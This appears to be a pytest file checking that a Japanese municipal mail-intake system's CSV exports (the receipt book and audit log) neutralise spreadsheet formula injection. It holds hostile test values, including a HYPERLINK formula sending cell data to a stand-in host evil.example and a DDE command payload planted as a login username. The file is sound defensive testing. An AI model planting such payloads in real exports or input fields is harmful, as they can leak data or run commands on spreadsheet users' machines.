"""No exported cell is a formula: text from mail and from anyone who types
a user name reaches the 収受簿 and the audit CSV as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

from sqlalchemy import select
from sqlalchemy.orm import Session

from mailintake.models import Section
from mailintake.records.audit import entries_csv
from mailintake.records.book import book_csv
from mailintake.records.registry import RegistrationRequest
from mailintake.records.spreadsheet import FORMULA_STARTS, text_cell
from mailintake.services import Services

from .factories import make_user, stored_message

SOUMU = "soumu@city.example.jp"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1)", "\t=1", "＝１＋１"]


def cells(data: bytes, encoding: str = "utf-8-sig") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(encoding))) for cell in row]


def test_text_cell_neutralises_every_formula_start_and_leaves_the_rest() -> None:
    for value in HOSTILE:
        assert text_cell(value) == "'" + value
    assert text_cell("会議資料の送付について") == "会議資料の送付について"
    assert text_cell(12) == 12 and text_cell("") == ""


def test_the_receipt_book_and_the_audit_log_carry_hostile_text_as_text(services: Services, designated: str) -> None:
    clerk = make_user(services, "sato", password=None, role="system_admin", sections=["総務課"])
    ids = [stored_message(services, SOUMU, subject=s) for s in HOSTILE]
    services.registry.register(
        clerk,
        [
            RegistrationRequest(message_id=i, subject=s, sender=s, received_on=dt.date(2026, 11, 20),
                                retention="5年", remarks=s)
            for i, s in zip(ids, HOSTILE, strict=True)
        ],
    )  # fmt: skip
    services.audit.record(None, "login_failed", username='=cmd|" /C calc"!A0', client_address="10.0.0.9")
    with Session(services.engine) as session:
        section_id = session.scalars(select(Section.id)).one()
    rows = services.registry.book(clerk, section_id, 2026)
    for encoding in ("utf-8", "cp932"):
        book = cells(book_csv(rows, encoding), "utf-8-sig" if encoding == "utf-8" else "cp932")
        assert not [c for c in book if c.startswith(FORMULA_STARTS)], book
        assert sum(c.startswith("'") for c in book) >= 3 * len(HOSTILE)
    audit = cells(entries_csv(services.audit.entries(clerk)))
    assert not [c for c in audit if c.startswith(FORMULA_STARTS)]
    assert '\'=cmd|" /C calc"!A0' in audit
